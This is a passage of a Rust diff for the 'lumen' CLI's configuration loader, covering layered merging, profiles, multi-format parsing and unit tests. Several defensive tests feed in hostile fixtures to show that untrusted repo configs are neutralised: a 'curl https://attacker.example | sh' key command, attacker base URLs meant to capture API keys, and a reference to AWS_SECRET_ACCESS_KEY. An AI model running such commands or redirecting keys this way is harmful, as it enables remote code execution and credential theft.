+        Ok(self)
+    }
+}
+
+fn cli_generation(cli: &Cli) -> GenerationParams {
+    GenerationParams {
+        temperature: cli.temperature,
+        max_tokens: cli.max_tokens,
+        top_p: cli.top_p,
+        stop: (!cli.stop.is_empty()).then(|| cli.stop.clone()),
+    }
+}
+
+fn invalid_env(var: &str, message: String) -> LumenError {
+    LumenError::InvalidConfiguration(format!("{var}: {message}"))
+}
+
+/// A literal key takes precedence over a key command set in the same layer
+fn key_source(api_key: Option<Secret>, api_key_cmd: Option<String>) -> Option<ApiKeySource> {
+    api_key
+        .map(ApiKeySource::Value)
+        .or(api_key_cmd.map(ApiKeySource::Command))
+}
+
+#[derive(Debug, Clone, Copy, PartialEq, Eq)]
+pub enum ConfigFormat {
+    Json,
+    Toml,
+    Yaml,
+}
+
+/// Parse failure with a 1-based line and column when the parser reports one
+#[derive(Debug)]
+struct ParseError {
+    message: String,
+    location: Option<(usize, usize)>,
+}
+
+impl ConfigFormat {
+    pub fn from_path(path: &Path) -> Self {
+        match path.extension().and_then(|ext| ext.to_str()) {
+            Some("toml") => ConfigFormat::Toml,
+            Some("yaml" | "yml") => ConfigFormat::Yaml,
+            _ => ConfigFormat::Json,
+        }
+    }
+
+    /// Reads and parses `path`, errors point at the file, line and column
+    pub fn load<T: DeserializeOwned>(path: &Path) -> Result<T, LumenError> {
+        let content = fs::read_to_string(path)?;
+
+        Self::from_path(path).parse(&content).map_err(|e| {
+            let location = e
+                .location
+                .map(|(line, column)| format!(":{line}:{column}"))
+                .unwrap_or_default();
+            LumenError::InvalidConfiguration(format!("{}{location}: {}", path.display(), e.message))
+        })
+    }
+
+    fn parse<T: DeserializeOwned>(self, content: &str) -> Result<T, ParseError> {
+        let mut result = self.deserialize(content);
+        if let Err(e) = &mut result {
+            e.message = suggest::enrich_serde_message(std::mem::take(&mut e.message));
+        }
+        result
+    }
+
+    fn deserialize<T: DeserializeOwned>(self, content: &str) -> Result<T, ParseError> {
+        match self {
+            ConfigFormat::Json => serde_json::from_str(content).map_err(|e| ParseError {
+                location: (e.line() > 0).then(|| (e.line(), e.column())),
+                message: strip_location(e.to_string()),
+            }),
+            ConfigFormat::Toml => toml::from_str(content).map_err(|e| ParseError {
+                location: e.span().map(|span| line_column(content, span.start)),
+                message: e.message().to_string(),
+            }),
+            ConfigFormat::Yaml => serde_yaml::from_str(content).map_err(|e| ParseError {
+                location: e.location().map(|l| (l.line(), l.column())),
+                message: strip_location(e.to_string()),
+            }),
+        }
+    }
+}
+
+/// Drops the " at line X column Y" suffix serde_json and serde_yaml append to messages
+fn strip_location(message: String) -> String {
+    match message.rsplit_once(" at line ") {
+        Some((message, _)) => message.to_string(),
+        None => message,
+    }
+}
+
+/// 1-based line and column of a byte offset
+fn line_column(content: &str, offset: usize) -> (usize, usize) {
+    let before = &content[..offset.min(content.len())];
+    let line = before.matches('\n').count() + 1;
+    let column = before.chars().rev().take_while(|&c| c != '\n').count() + 1;
+    (line, column)
 }
 
 impl Default for LumenConfig {
     fn default() -> Self {
         LumenConfig {
-            provider: default_ai_provider(),
-            model: default_model(),
-            api_key: default_api_key(),
-            draft: default_draft_config(),
-            api_base_url: default_api_base_url(),
+            provider: ProviderType::Phind,
+            model: None,
+            api_key: None,
+            draft: DraftConfig::default(),
+            api_base_url: None,
+            list: ListConfig::default(),
+            explain: ExplainConfig::default(),
+            generation: GenerationParams::default(),
+            profile: None,
+            profiles: BTreeMap::new(),
+            origins: BTreeMap::new(),
+            untrusted_base_urls: Vec::new(),
+            explicit_files: Vec::new(),
+            file_generation: GenerationParams::default(),
         }
     }
 }
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+    use clap::Parser;
+
+    fn parse(json: &str) -> ConfigFile {
+        serde_json::from_str(json).unwrap()
+    }
+
+    #[test]
+    fn test_layers_merge_field_by_field() {
+        let mut config = LumenConfig::default();
+        config.merge(
+            parse(r#"{ "provider": "groq", "model": "llama" }"#),
+            ConfigOrigin::GlobalFile("global.json".into()),
+        );
+        config.merge(
+            parse(r#"{ "model": "mixtral", "list": { "picker": "fzf" } }"#),
+            ConfigOrigin::RepoFile("repo.json".into()),
+        );
+
+        assert_eq!(config.provider, ProviderType::Groq);
+        assert_eq!(config.model.as_deref(), Some("mixtral"));
+        assert_eq!(config.list.picker, PickerKind::Fzf);
+        assert_eq!(
+            config.origin("provider"),
+            &ConfigOrigin::GlobalFile("global.json".into())
+        );
+        assert_eq!(
+            config.origin("model"),
+            &ConfigOrigin::RepoFile("repo.json".into())
+        );
+        assert_eq!(config.origin("api_key"), &ConfigOrigin::Default);
+    }
+
+    #[test]
+    fn test_api_key_is_masked() {
+        let mut config = LumenConfig::default();
+        config.merge(
+            parse(r#"{ "api_key": "sk-secret" }"#),
+            ConfigOrigin::File("lumen.config.json".into()),
+        );
+
+        assert_eq!(config.display_value("api_key").as_deref(), Some("********"));
+    }
+
+    #[test]
+    fn test_debug_output_redacts_keys() {
+        let mut config = LumenConfig::default();
+        config.merge(
+            parse(
+                r#"{
+                    "api_key": "sk-top-level",
+                    "profiles": { "fast": { "provider": "groq", "api_key": "gsk-profile" } }
+                }"#,
+            ),
+            ConfigOrigin::GlobalFile("global.json".into()),
+        );
+
+        let debug = format!("{config:?}");
+        assert!(!debug.contains("sk-top-level"));
+        assert!(!debug.contains("gsk-profile"));
+    }
+
+    #[test]
+    fn test_profile_overrides_files() {
+        let mut config = LumenConfig::default();
+        config.merge(
+            parse(
+                r#"{
+                    "provider": "openai",
+                    "model": "gpt-4o",
+                    "profiles": {
+                        "fast": { "provider": "groq", "model": "llama" },
+                        "private": { "provider": "ollama", "api_base_url": "http://localhost:11434" }
+                    }
+                }"#,
+            ),
+            ConfigOrigin::GlobalFile("global.json".into()),
+        );
+        config.merge(
+            parse(r#"{ "profiles": { "fast": { "model": "mixtral" } } }"#),
+            ConfigOrigin::RepoFile("repo.json".into()),
+        );
+
+        config
+            .select("fast", ConfigOrigin::Cli("--profile"))
+            .unwrap();
+        assert_eq!(config.provider, ProviderType::Groq);
+        assert_eq!(config.model.as_deref(), Some("mixtral"));
+        assert_eq!(config.profile.as_deref(), Some("fast"));
+        assert_eq!(
+            config.origin("model"),
+            &ConfigOrigin::Profile("fast".into())
+        );
+
+        config
+            .select("private", ConfigOrigin::Cli("--profile"))
+            .unwrap();
+        assert_eq!(config.provider, ProviderType::Ollama);
+        assert_eq!(config.model, None);
+        assert_eq!(
+            config.api_base_url.as_deref(),
+            Some("http://localhost:11434")
+        );
+
+        assert!(config.select("missing", ConfigOrigin::Default).is_err());
+    }
+
+    #[test]
+    fn test_profile_switching_provider_drops_the_key() {
+        let mut config = LumenConfig::default();
+        config.merge(
+            parse(
+                r#"{
+                    "provider": "openai",
+                    "api_key": "sk-openai",
+                    "profiles": { "fast": { "provider": "groq", "model": "llama" } }
+                }"#,
+            ),
+            ConfigOrigin::GlobalFile("global.json".into()),
+        );
+
+        config
+            .select("fast", ConfigOrigin::Cli("--profile"))
+            .unwrap();
+        assert_eq!(config.provider, ProviderType::Groq);
+        assert!(config.api_key.is_none());
+        assert_eq!(config.origin("api_key"), &ConfigOrigin::Default);
+    }
+
+    #[test]
+    fn test_profile_wins_over_environment() {
+        let cli = Cli::try_parse_from(["lumen", "--profile", "fast", "draft"]).unwrap();
+        let mut config = LumenConfig::default();
+        config.merge(
+            parse(r#"{ "profiles": { "fast": { "provider": "groq", "api_key": "gsk-groq" } } }"#),
+            ConfigOrigin::GlobalFile("global.json".into()),
+        );
+
+        let env = |var: &str| match var {
+            "LUMEN_AI_PROVIDER" => Some("openai".to_string()),
+            "LUMEN_API_KEY" => Some("sk-ambient".to_string()),
+            "LUMEN_AI_MODEL" => Some("gpt-4o".to_string()),
+            _ => None,
+        };
+        config.merge_env(env).unwrap();
+        config.select_profile(&cli).unwrap();
+
+        assert_eq!(config.provider, ProviderType::Groq);
+        assert_eq!(config.model, None);
+        assert_eq!(
+            config.api_key.unwrap().resolve().unwrap().expose(),
+            "gsk-groq"
+        );
+    }
+
+    #[test]
+    fn test_config_flag_file_wins_over_environment() {
+        let path = std::env::temp_dir().join(format!("lumen-explicit-{}.json", std::process::id()));
+        fs::write(&path, r#"{ "model": "from-file" }"#).unwrap();
+        let cli = Cli::try_parse_from(["lumen", "draft"]).unwrap();
+        let mut config = LumenConfig::default();
+        let errors = config.merge_files(vec![(path.clone(), ConfigOrigin::File(path.clone()))]);
+        fs::remove_file(&path).unwrap();
+        assert!(errors.is_empty());
+
+        let env = |var: &str| match var {
+            "LUMEN_AI_MODEL" => Some("from-env".to_string()),
+            "LUMEN_AI_PROVIDER" => Some("ollama".to_string()),
+            _ => None,
+        };
+        config.resolve_with_env(&cli, env).unwrap();
+        assert_eq!(config.model.as_deref(), Some("from-file"));
+        assert_eq!(config.origin("model"), &ConfigOrigin::File(path));
+        assert_eq!(config.provider, ProviderType::Ollama);
+    }
+
+    #[test]
+    fn test_untrusted_repository_config_is_restricted() {
+        let mut config = LumenConfig::default();
+        config.merge(
+            parse(r#"{ "provider": "openai", "api_key": "sk-openai" }"#),
+            ConfigOrigin::GlobalFile("global.json".into()),
+        );
+
+        let repo_file = parse(
+            r#"{
+                "provider": "groq",
+                "api_base_url": "https://attacker.example",
+                "profiles": { "fast": { "api_base_url": "https://attacker.example" } }
+            }"#,
+        );
+        let repo_file = config.restrict(repo_file, Path::new("repo/.lumen.toml"));
+        assert_eq!(repo_file.api_base_url, None);
+        assert_eq!(repo_file.profiles["fast"].api_base_url, None);
+        assert!(config.api_key.is_none());
+
+        let commands = parse(
+            r#"{
+                "api_key_cmd": "curl https://attacker.example | sh",
+                "model": "${HOME}",
+                "profiles": { "fast": { "api_key_cmd": "make", "api_key_env": "AWS_SECRET_ACCESS_KEY" } }
+            }"#,
+        );
+        let commands = config.restrict(commands, Path::new("repo/.lumen.toml"));
+        assert_eq!(commands.api_key_cmd, None);
+        assert_eq!(commands.model, None);
+        assert_eq!(commands.profiles["fast"].api_key_cmd, None);
+        assert_eq!(commands.profiles["fast"].api_key_env, None);
+
+        let own_key = parse(r#"{ "api_key": "sk-repo", "api_base_url": "https://proxy.example" }"#);
+        let own_key = config.restrict(own_key, Path::new("repo/.lumen.toml"));
+        assert_eq!(
+            own_key.api_base_url.as_deref(),
+            Some("https://proxy.example")
+        );
+
+        let root = std::env::temp_dir().join(format!("lumen-trusted-{}", std::process::id()));
+        fs::create_dir_all(&root).unwrap();
+        let repo_config = root.join(".lumen.toml");
+        let trusted = discovery::is_trusted(&repo_config, &[root.display().to_string()]);
+        let untrusted = discovery::is_trusted(&repo_config, &["/nonexistent".to_string()]);
+        fs::remove_dir_all(&root).unwrap();
+        assert!(trusted);
+        assert!(!untrusted);
+    }
+
+    #[test]
+    fn test_untrusted_base_url_only_gets_its_own_key() {
+        let dir = std::env::temp_dir().join(format!("lumen-stolen-key-{}", std::process::id()));
+        fs::create_dir_all(&dir).unwrap();
+        let repo_config = dir.join("lumen.config.json");
+        fs::write(
+            &repo_config,
+            r#"{
+                "provider": "openai",
+                "api_key": "dummy",
+                "api_base_url": "https://attacker.example/v1",
+                "profiles": {
+                    "evil": { "api_key": "dummy", "api_base_url": "https://attacker.example/v1" }
+                }
+            }"#,
+        )
+        .unwrap();
+        let resolve = |args: &[&str]| {
+            let cli = Cli::try_parse_from(args).unwrap();
+            let mut config = LumenConfig::default();
+            let layers = vec![(
+                repo_config.clone(),
+                ConfigOrigin::RepoFile(repo_config.clone()),
+            )];
+            assert!(config.merge_files(layers).is_empty());
+            config.resolve_with_env(&cli, |_| None).unwrap();
+            config
+        };
+
+        let own_key = resolve(&["lumen", "draft"]);
+        let stolen_key = resolve(&["lumen", "--api-key", "sk-real", "draft"]);
+        let stolen_by_profile = resolve(&[
+            "lumen",
+            "--api-key",
+            "sk-real",
+            "--profile",
+            "evil",
+            "draft",
+        ]);
+        fs::remove_dir_all(&dir).unwrap();
+
+        assert_eq!(
+            own_key.api_base_url.as_deref(),
+            Some("https://attacker.example/v1")
+        );
+        assert_eq!(stolen_key.api_base_url, None);
+        assert_eq!(stolen_key.origin("api_base_url"), &ConfigOrigin::Default);
+        assert_eq!(stolen_by_profile.api_base_url, None);
+    }
+
+    #[test]
+    fn test_servers_get_each_command_generation() {
+        let cli = Cli::try_parse_from(["lumen", "--top-p", "0.9", "serve"]).unwrap();
+        let mut config = LumenConfig::default();
+        config.merge(
+            parse(
+                r#"{
+                    "generation": { "max_tokens": 512 },
+                    "draft": { "generation": { "temperature": 0.1 } }
+                }"#,
+            ),
+            ConfigOrigin::GlobalFile("global.json".into()),
+        );
+        config.resolve_with_env(&cli, |_| None).unwrap();
+
+        let expected = |temperature| GenerationParams {
+            temperature: Some(temperature),
+            max_tokens: Some(512),
+            top_p: Some(0.9),
+            stop: None,
+        };
+        assert_eq!(
+            config
+                .command_generation(&cli, GenerationCommand::Draft)
+                .unwrap(),
+            expected(0.1)
+        );
+        assert_eq!(
+            config
+                .command_generation(&cli, GenerationCommand::Explain)
+                .unwrap(),
+            expected(0.7)
+        );
+    }
+
+    #[test]
+    fn test_command_generation_overrides_top_level() {
+        let cli = Cli::try_parse_from(["lumen", "--top-p", "0.9", "draft"]).unwrap();
+        let mut config = LumenConfig::default();
+        config.merge(
+            parse(
+                r#"{
+                    "generation": { "temperature": 1.0, "max_tokens": 512 },
+                    "draft": { "generation": { "temperature": 0.1 } }
+                }"#,
+            ),
+            ConfigOrigin::RepoFile("repo.json".into()),
+        );
+        config.merge_command_generation(&cli);
+        config.merge_cli(&cli);
+
+        assert_eq!(
+            config.generation,
+            GenerationParams {
+                temperature: Some(0.1),
+                max_tokens: Some(512),
+                top_p: Some(0.9),
+                stop: None,
+            }
+        );
+        assert_eq!(
+            config.origin("generation.temperature"),
+            &ConfigOrigin::RepoFile("repo.json".into())
+        );
+        assert_eq!(
+            config.origin("generation.top_p"),
+            &ConfigOrigin::Cli("--top-p")
+        );
+    }
+
+    #[test]
+    fn test_command_generation_defaults() {
+        let cli = Cli::try_parse_from(["lumen", "draft"]).unwrap();
+        let mut config = LumenConfig::default();
+        config.merge_command_generation(&cli);
+
+        assert_eq!(config.generation.temperature, Some(0.2));
+        assert_eq!(
+            config.origin("generation.temperature"),
+            &ConfigOrigin::Default
+        );
+    }
+
+    #[test]
+    fn test_unknown_fields_are_rejected() {
+        let error = ConfigFormat::Json
+            .parse::<ConfigFile>(r#"{ "provider": "openai", "api_base": "http://localhost" }"#)
+            .unwrap_err();
+        assert!(error.message.contains("did you mean `api_base_url`?"));
+
+        let error = ConfigFormat::Toml
+            .parse::<ConfigFile>("[list]\npicker = \"fzz\"\n")
+            .unwrap_err();
+        assert_eq!(error.location, Some((2, 10)));
+        assert!(error.message.contains("did you mean `fzf`?"));
+
+        let error = ConfigFormat::Yaml
+            .parse::<ConfigFile>("provider: opanai\n")
+            .unwrap_err();
+        assert!(error.message.contains("did you mean `openai`?"));
+    }
+
+    #[test]
+    fn test_formats_share_semantics() {
+        let json = r#"{ "provider": "claude", "model": "haiku", "draft": { "commit_types": { "feat": "A new feature" } } }"#;
+        let toml = indoc! {r#"
+            # team defaults
+            provider = "claude"
+            model = "haiku"
+
+            [draft.commit_types]
+            feat = "A new feature"
+        "#};
+        let yaml = indoc! {r#"
+            provider: claude
+            model: haiku
+            draft:
+              commit_types:
+                feat: A new feature
+        "#};
+
+        for (format, content) in [
+            (ConfigFormat::Json, json),
+            (ConfigFormat::Toml, toml),
+            (ConfigFormat::Yaml, yaml),
+        ] {
+            let file = format.parse::<ConfigFile>(content).unwrap();
+            assert_eq!(file.provider, Some(ProviderType::Claude), "{format:?}");
+            assert_eq!(file.model.as_deref(), Some("haiku"), "{format:?}");
+            assert_eq!(
+                file.draft.commit_types.as_deref(),
+                Some(r#"{"feat":"A new feature"}"#),
+                "{format:?}"
+            );
+        }
+    }
+
+    #[test]
+    fn test_parse_errors_report_location() {
+        let toml = "model = \"haiku\"\nprovider = 42\n";
+        let error = ConfigFormat::Toml.parse::<ConfigFile>(toml).unwrap_err();
+        assert_eq!(error.location, Some((2, 12)));
+
+        let yaml = "model: haiku\nprovider: [claude]\n";
+        let error = ConfigFormat::Yaml.parse::<ConfigFile>(yaml).unwrap_err();
+        assert_eq!(error.location.map(|(line, _)| line), Some(2));
+
+        let error = ConfigFormat::Json
+            .parse::<ConfigFile>("{\n  \"model\": }")
+            .unwrap_err();
+        assert_eq!(error.location, Some((2, 12)));
+        assert!(!error.message.contains("at line"));
+    }
+}